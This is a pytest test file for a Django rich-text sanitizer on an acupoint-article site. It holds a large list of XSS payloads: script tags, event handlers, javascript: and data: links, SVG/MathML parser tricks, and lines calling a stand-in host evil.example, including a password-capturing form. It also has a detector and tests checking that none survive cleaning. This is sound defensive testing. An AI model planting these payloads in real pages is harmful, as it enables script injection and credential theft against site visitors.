"""The rich text of a body: what goes through, what stays out, and that no words get lost.

PAYLOADS and `faults` are what tests/test_hostile_input.py attacks and judges whole pages with.
"""

import re
import string
from collections import Counter
from html.parser import HTMLParser

import nh3
import pytest
from django.core.exceptions import ValidationError
from django.forms import modelform_factory
from django.utils.html import escape
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import html

from articles import body, rendering
from articles.fields import LONGEST, RichTextField
from articles.forms import ArticleForm
from articles.models import ArticleRevision, PageRevision

# --- What attackers type -------------------------------------------------------------------

PAYLOADS = [
    # Scripts
    "<script>alert(1)</script>",
    "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)",
    "<script/xss src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\n>alert(1)</script\n>",
    "</p><script>alert(1)</script><p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<script type=module>import('//evil.example')</script>",
    '<script type="application/ld+json">{"@type": "Article"}</script>',
    # Event handlers
    "<p onclick=alert(1)>words</p>",
    "<p ONMOUSEOVER='alert(1)'>words</p>",
    "<p/onpointerover=alert(1)>words</p>",
    "<p\x0conclick=alert(1)>words</p>",
    '<p title="x"onclick="alert(1)">words</p>',
    "<a href=# onfocus=alert(1) autofocus>words</a>",
    '<a href="/" title="x" onclick="alert(1)">words</a>',
    "<h2 onanimationstart=alert(1)>words</h2>",
    "<br onclick=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)><body onpageshow=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>words</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>words</select>",
    "<marquee onstart=alert(1)>words</marquee>",
    "<xss onclick=alert(1)>words</xss>",
    # Embeds of points
    '<div data-acupoint="BL40" onclick="alert(1)"></div>',
    '<div data-acupoint="BL40" style="position:fixed" id="main" class="review-card"></div>',
    "<div data-acupoint='BL40\" onclick=\"alert(1)'></div>",
    '<div data-acupoint="BL40&quot; onclick=&quot;alert(1)"></div>',
    '<div data-acupoint="BL40><script>alert(1)</script>"></div>',
    '<div data-acupoint="BL40\n"></div>',
    '<div data-acupoint="BL４０"></div>',
    '<div data-acupoint="ВL40"></div>',  # its first letter is Cyrillic
    '<div data-acupoint="../admin"></div>',
    '<div data-acupoint="BL40"><div><script>alert(1)</script></div></div>',
    '<div data-acupoint="BL40"><div data-acupoint="BL40"></div></div>',
    '<div data-signed="0"><div data-badge="reviewed">Reviewed by Dr Evil</div></div>',
    '<p data-badge="reviewed" data-signed="0" data-reviewer="evil" data-acupoint="BL40">words</p>',
    # Links
    '<a href="javascript:alert(1)">words</a>',
    '<a href="JaVaScRiPt:alert(1)">words</a>',
    '<a href=" javascript:alert(1)">words</a>',
    '<a href="java\tscript:alert(1)">words</a>',
    '<a href="java\nscript:alert(1)">words</a>',
    '<a href="java&#9;script&#58;alert(1)">words</a>',
    '<a href="&#1;javascript:alert(1)">words</a>',
    '<a href="\x01javascript:alert(1)">words</a>',
    '<a href="jav&#x0A;ascript&colon;alert(1)">words</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">words</a>',
    '<a href="javascript\u200b:alert(1)">words</a>',
    '<a href="\u00a0javascript:alert(1)">words</a>',
    '<a href="javascript://example.org/%0Aalert(1)">words</a>',
    '<a href="vbscript:msgbox(1)">words</a>',
    '<a href="data:text/html,<script>alert(1)</script>">words</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">words</a>',
    '<a href="blob:https://example.org/1">words</a>',
    '<a href="file:///etc/passwd">words</a>',
    '<a href="view-source:javascript:alert(1)">words</a>',
    '<a href="/" target="_blank" rel="opener" ping="//evil.example" download>words</a>',
    "<a href=`javascript:alert(1)`>words</a>",
    '<a xlink:href="javascript:alert(1)">words</a>',
    '<a title="&quot; onclick=&quot;alert(1)" href="/">words</a>',
    '<a title=\'"><script>alert(1)</script>\' href="/">words</a>',
    '<a href="/"title="--><img src=x onerror=alert(1)>">words</a>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>words</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><title><p onclick=alert(1)>words</title></svg>",
    "<math href='javascript:alert(1)'>words</math>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>words</maction>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1&gt;",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    # Styles
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<p style='background:url(javascript:alert(1))'>words</p>",
    "<p style='width:expression(alert(1))'>words</p>",
    "<p style=\"-moz-binding:url('//evil.example/x.xml#xss')\">words</p>",
    "<p class='review-card' id='search-dialog'>words</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # Frames, forms, and what steers a page
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>words</button>",
    "<isindex action=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<portal src=//evil.example></portal>",
    # Comments, and elements that parsers disagree about
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0' encoding='utf-8'?><p>words</p>",
    '<?xml version="1.0" encoding="utf-8"?><script>alert(1)</script>',
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;words",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<table><caption><svg><desc><table><caption></svg><img src=x onerror=alert(1)>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<p><table><td></p><img src=x onerror=alert(1)>",
    # Letters that look like others
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>\u202c",
    "<\u200bscript>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<a href='ｊａｖａｓｃｒｉｐｔ:alert(1)'>words</a>",
    "{{ 7|add:7 }}{% include 'admin/base.html' %}${7*7}",
]


# --- How a page is judged ------------------------------------------------------------------

HARMLESS = {"http", "https", "mailto"}
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href"}
NEVER = """
    animate applet audio base embed foreignobject frame frameset iframe image isindex marquee math
    noembed noscript object plaintext portal set source style template use video xmp
"""
NEVER = set(NEVER.split())
KNOWN = """
    a annotation-xml article aside b blockquote body br button caption center circle cite code dd
    desc details dialog div dl dt em fieldset figcaption figure footer foreignObject form g h1 h2
    h3 h4 h5 h6 head header hr html i img input label legend li link main maction meta mglyph mtext
    nav ol optgroup option p path pre q script section select span strong sub summary sup svg table
    tbody td text textarea tfoot th thead time title tr u ul
"""
_as_browsers_read = nh3.Cleaner(
    tags=NEVER | set(KNOWN.split()),
    clean_content_tags=set(),
    generic_attribute_prefixes=set(string.ascii_lowercase),
    url_schemes={"javascript", "vbscript", "data", "file", "blob", "view-source", *HARMLESS},
    link_rel=None,
    strip_comments=False,
)


class Tags(HTMLParser):
    """The start tags of HTML that a parser has written out, as [(name, attributes)]."""

    def __init__(self, markup):
        super().__init__()
        self.found = []
        self.feed(markup)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(markup):
    """The elements of some HTML as two parsers see them: libxml2, and html5ever as browsers do."""
    tree = html.document_fromstring(markup + "<br>")  # lxml takes no empty document
    ours = [(e.tag.lower(), dict(e.attrib)) for e in tree.iter() if isinstance(e.tag, str)]
    return ours + Tags(_as_browsers_read.clean(markup)).found


def scheme(address):
    """The scheme that a browser makes of an address, having dropped what it ignores."""
    found = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", address).lower())
    return found[1] if found else None


def is_own_script(attributes):
    """Scripts of the house: its own files, a data block, or an import map let in by nonce."""
    source, kind = attributes.get("src"), attributes.get("type")
    if source is not None:
        return source.startswith(("/static/", "/admin/jsi18n/"))
    return kind == "application/ld+json" or (kind == "importmap" and attributes.get("nonce"))


def faults(markup):
    """Everything in some HTML that could act: an empty list for a page that only says things."""
    found = []
    for tag, attributes in elements(markup):
        if tag in NEVER or (tag == "script" and not is_own_script(attributes)):
            found.append(f"<{tag}> {attributes}")
        if tag == "meta" and "http-equiv" in attributes:
            found.append(f"<meta> {attributes}")
        for name, value in attributes.items():
            if name.startswith("on") or name in {"style", "srcdoc"}:
                found.append(f"{tag} {name}={value!r}")
            if name in ADDRESSES and scheme(value) not in {None, *HARMLESS}:
                found.append(f"{tag} {name}={value!r}")
    return found


ALLOWED = {
    **{tag: set() for tag in body.BLOCKS | body.MARKS},
    "a": {"href", "title", "rel"},
    "div": {"data-acupoint"},
}


def strangers(cleaned):
    """Elements and attributes of a cleaned body that a body may not hold."""
    return [
        (tag, attributes)
        for tag, attributes in elements(cleaned)
        if tag not in {"html", "body", *ALLOWED} or not set(attributes) <= ALLOWED.get(tag, set())
    ]


def words(markup):
    return " ".join(body.parsed(markup).text_content().split())


# --- The judge itself ----------------------------------------------------------------------

ACTIVE = [
    p for p in PAYLOADS if re.match(r"<(script>|img|svg on|iframe|p on|a href=\"java\w*:)", p)
]


@pytest.mark.parametrize("payload", ACTIVE)
def test_the_judge_sees_what_acts(payload):
    assert faults(f"<p>before</p>{payload}<p>after</p>")


@pytest.mark.parametrize(
    "harmless",
    [
        "<p>1 &lt; 2</p>",
        '<a href="https://example.org/?q=javascript:">x</a>',
        '<a href="/javascript:x">x</a>',
        '<script type="module" src="/static/site/site.js"></script>',
    ],
)
def test_the_judge_is_silent_about_plain_words(harmless):
    assert faults(harmless) == []


# --- What goes in and what comes out -------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_acts_gets_through(payload):
    cleaned = body.clean(f"<p>before</p>{payload}<p>after</p>")
    assert faults(cleaned) == []
    assert strangers(cleaned) == []
    assert body.clean(cleaned) == cleaned


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if re.search(r"^<[pah]\b.*>words<", p)])
def test_the_words_that_an_attack_hides_in_survive(payload):
    assert words(body.clean(payload)) == "words"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_words_before_an_attack_survive_it(payload):
    assert words(body.clean(f"<p>before</p>{payload}")).startswith("before")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("model", [ArticleRevision, PageRevision])
def test_a_field_stores_clean_text_whichever_way_it_is_saved(payload, model):
    revision = model(body=payload)
    assert model._meta.get_field("body").pre_save(revision, add=True) == body.clean(payload)
    assert revision.body == body.clean(payload)


def test_every_rich_text_is_cleaned():
    for model in (ArticleRevision, PageRevision):
        assert isinstance(model._meta.get_field("body"), RichTextField)


@pytest.mark.parametrize("text", [None, "", "   ", "<p", "<", "&", "\x00", "<!-- -->", "<div>"])
def test_next_to_nothing_is_no_error(text):
    assert body.clean(text) in {"", "&lt;", "&amp;", "\ufffd"}


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("<h1>Title</h1>", "Title"),
        ("<div><p>One</p></div>", "<p>One</p>"),
        ("<div><div><div>One</div></div></div>", "One"),
        ("<b>One</b> <i>two</i> <u>three</u>", "One two three"),
        ("<p>Fish &amp; chips &lt;3</p>", "<p>Fish &amp; chips &lt;3</p>"),
        ("<p>委中 Wěizhōng 🌿</p>", "<p>委中 Wěizhōng 🌿</p>"),
        ("<p>One<br>two</p><hr>", "<p>One<br>two</p><hr>"),
        ("<table><tr><td>One</td></tr></table>", "One"),
        ("<ol><li>One<ul><li>2</li></ul></li></ol>", "<ol><li>One<ul><li>2</li></ul></li></ol>"),
    ],
)
def test_markup_that_is_not_ours_goes_and_its_words_stay(written, kept):
    assert body.clean(written) == kept


@pytest.mark.parametrize(
    "address",
    [
        "https://example.org/a?b=c&d=e#f",
        "http://example.org/",
        "mailto:desk@example.org",
        "/acupoints/bl-40/",
        "../bl-40/",
        "#tips",
        "?page=2",
    ],
)
def test_a_harmless_link_keeps_its_address(address):
    cleaned = body.clean(f'<p><a href="{escape(address)}" title="There">x</a></p>')
    (link,) = body.parsed(cleaned).iter("a")
    assert dict(link.attrib) == {"href": address, "title": "There", "rel": "noopener"}


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "href" in p or "src" in p])
def test_no_other_address_is_kept(payload):
    for element in body.parsed(body.clean(payload)).iter("a"):
        assert scheme(element.get("href", "")) in {None, *HARMLESS}


# --- Embeds --------------------------------------------------------------------------------


def test_codes_finds_each_embed_in_its_order():
    text = '<p>a</p><div data-acupoint="ST36"></div><p>b</p><div data-acupoint="EX-HN3"></div>'
    assert body.codes(text) == ["ST36", "EX-HN3"]
    assert body.clean(text) == text


def test_codes_counts_a_point_as_often_as_it_stands():
    assert body.codes('<div data-acupoint="BL40"></div>' * 2) == ["BL40", "BL40"]


@pytest.mark.parametrize(
    ("held", "kept"),
    [
        ("text", "text"),
        ("<p>text</p>", "<p>text</p>"),
        ("<div>text</div>", "text"),
        ("<div><div>x</div>y", "xy"),
    ],
)
def test_text_inside_an_embed_goes_on_behind_it_and_is_not_lost(held, kept):
    text = f'<p>a</p><div data-acupoint="BL40">{held}</div>'
    assert body.clean(text) == f'<p>a</p><div data-acupoint="BL40"></div>{kept}'


def test_an_embed_inside_an_embed_stands_behind_it():
    text = '<div data-acupoint="BL40">a<div data-acupoint="ST36">b</div>c</div>d'
    first, second = '<div data-acupoint="BL40"></div>', '<div data-acupoint="ST36"></div>'
    assert body.clean(text) == f"{first}a{second}bcd"


@pytest.mark.parametrize(
    "code",
    ["BL4０", "BL40 ", "bl40", "BL400", "B40", "BL40;", "BL-40", "ВL40", "X-<b>", "", "BL٤٠"],
)
def test_what_is_no_code_is_no_embed(code):
    assert body.codes(body.clean(f'<div data-acupoint="{escape(code)}">words</div>')) == []


def test_the_form_and_the_stored_text_agree_about_embeds():
    """What a browser drops (a comment, a script) must not count as an embed that was kept."""
    for hidden in ("<!--{}-->", "<script>{}</script>", "<svg><desc>{}</desc></svg>"):
        form = modelform_factory(ArticleRevision, ArticleForm, fields=["body"])()
        form.cleaned_data = {"body": hidden.format('<div data-acupoint="BL40"></div>')}
        assert body.codes(form.clean_body()) == []


# --- Sizes ---------------------------------------------------------------------------------


@pytest.mark.parametrize("tag", ["em", "blockquote", "div", "ul><li"])
def test_a_text_nested_past_reading_is_refused_rather_than_cut(tag):
    """A parser stops at some depth; what stood deeper must not vanish without a word."""
    with pytest.raises(ValidationError, match="nested too deeply"):
        body.clean(f"<{tag}>" * 3000 + "deep")


def test_a_text_nested_as_deeply_as_anybody_would_is_kept_whole():
    assert words(body.clean("<ul><li>" * 60 + "<em><strong>deep")) == "deep"


def test_a_text_without_end_is_refused_by_the_form():
    field = ArticleRevision._meta.get_field("body").formfield()
    with pytest.raises(ValidationError):
        field.clean("&" * (LONGEST + 1))


# --- Headings ------------------------------------------------------------------------------


def context(text):
    return rendering.article_context({"fields": {"body": text}, "pins": [], "labels": {}})


def heading_ids(text):
    return [e.get("id") for e in html.fromstring(f"<div>{context(text)['body']}</div>").iter("h2")]


def test_headings_of_one_name_get_different_ids():
    assert heading_ids("<h2>Knee</h2>" * 3) == ["knee", "knee-2", "knee-3"]


def test_a_heading_cannot_take_the_id_that_another_was_given():
    ids = heading_ids("<h2>Knee 2</h2><h2>Knee</h2><h2>Knee</h2>")
    assert len(set(ids)) == 3


@pytest.mark.parametrize("text", ["委中", "&lt;&gt;", "", "<em></em>", "\u202e"])
def test_a_heading_without_a_latin_letter_has_an_id_too(text):
    assert heading_ids(f"<h2>{text}</h2>") == ["part"]


@pytest.mark.parametrize(
    "name",
    [
        *("Tips", "Sources", "Top", "Main", "Contents heading", "Search dialog", "Dialog q"),
        *("Decide", "Author jane doe", "Product mat", "Move sign", "sign_scope"),
    ],
)
def test_a_heading_cannot_take_an_id_of_the_house(name):
    """A script or a label that looks for its element must not find a writer's heading."""
    (taken,) = heading_ids(f"<h2>{name}</h2>")
    assert taken.startswith("part-")


def test_many_headings_of_one_name_take_no_time():
    assert heading_ids("<h2>A</h2>" * 5000)[-1] == "a-5000"


def test_contents_hold_the_words_of_headings_not_their_markup():
    text = "<h2>One &lt;b&gt;</h2><h2><em>Two</em></h2><h2>Three</h2>"
    assert [h["text"] for h in context(text)["contents"]] == ["One <b>", "Two", "Three"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_bytes_that_somebody_changed_are_cleaned_again_for_readers(payload):
    text = payload.replace('"BL40"', '"no code"')  # a document without pins
    assert faults(str(context(f"<p>a</p>{text}")["body"])) == []
    assert faults(str(rendering.page_context({"fields": {"body": text}})["body"])) == []


# --- Whatever anybody may write ------------------------------------------------------------

OPENED = ["p", "ul", "li", "blockquote", "h2", "em", "a", "div", "b", "section"]
MISREAD = ["table", "td", "svg", "math", "style", "select", "title", "template", "noscript"]
ATTRIBUTES = [
    "",
    ' data-acupoint="BL40"',
    ' data-acupoint="GB34"',
    ' href="/x"',
    ' title="<b>"',
    " onclick=x",
]
tags = st.sampled_from(OPENED)
any_tags = st.sampled_from(OPENED + MISREAD)
visible = st.text(
    st.characters(
        codec="utf-8",
        exclude_categories=["Cc"],
        exclude_characters="\ufffe\uffff",
        include_characters="\n\t",
    )
)
hostile = st.lists(
    st.one_of(
        st.sampled_from(PAYLOADS),
        st.builds("<{}{}>".format, any_tags, st.sampled_from(ATTRIBUTES)),
        st.builds("</{}>".format, any_tags),
        st.text(st.characters(codec="utf-8"), max_size=12),
    ),
    max_size=12,
).map("".join)
soup = st.lists(
    st.one_of(
        st.builds("<{}>".format, tags),
        st.builds("</{}>".format, tags),
        st.integers(10, 99).map(" w{} ".format),
    ),
    max_size=25,
).map("".join)
often = settings(max_examples=150, deadline=None)


@often
@given(hostile)
@example("<h2><div><li>x")
@example("<ol><h4><div><li>x")
@example("<strong><div><li>x<div><li>y")
@example("<p>x<sup><select>y</svg></h3><h4>z</h4></td>")
@example("<p><div></div> </p>")
def test_cleaning_twice_is_cleaning_once(text):
    cleaned = body.clean(text)
    assert body.clean(cleaned) == cleaned


@often
@given(hostile)
def test_whatever_is_written_nothing_acts(text):
    cleaned = body.clean(text)
    assert faults(cleaned) == []
    assert strangers(cleaned) == []


@often
@given(hostile)
def test_codes_are_exactly_the_embeds(text):
    cleaned = body.clean(text)
    assert body.codes(cleaned) == re.findall(r'<div data-acupoint="([A-Z0-9-]+)"></div>', cleaned)
    assert cleaned.count("<div") == len(body.codes(cleaned))


@often
@given(soup)
def test_no_word_is_lost_and_none_changes_its_place(text):
    assert re.findall(r"w\d\d", words(body.clean(text))) == re.findall(r"w\d\d", text)


@often
@given(visible)
def test_plain_words_come_back_as_they_were(text):
    assert words(body.clean(f"<p>{escape(text)}</p>")) == " ".join(text.split())


@often
@given(st.lists(st.sampled_from(["BL40", "GB34", "EX-HN3", "X-ABC"]), max_size=6), hostile)
def test_embeds_keep_their_code_and_their_order(found, text):
    embeds = "".join(f'<p>x</p><div data-acupoint="{code}"></div>' for code in found)
    assert body.codes(body.clean(embeds + text))[: len(found)] == found


@often
@given(st.lists(st.sampled_from(["Knee", "Knee 2", "tips", "委", "part", "Author x"]), max_size=9))
def test_headings_are_named_once_each(headings):
    ids = heading_ids("".join(f"<h2>{heading}</h2>" for heading in headings))
    assert max(Counter(ids).values(), default=1) == 1
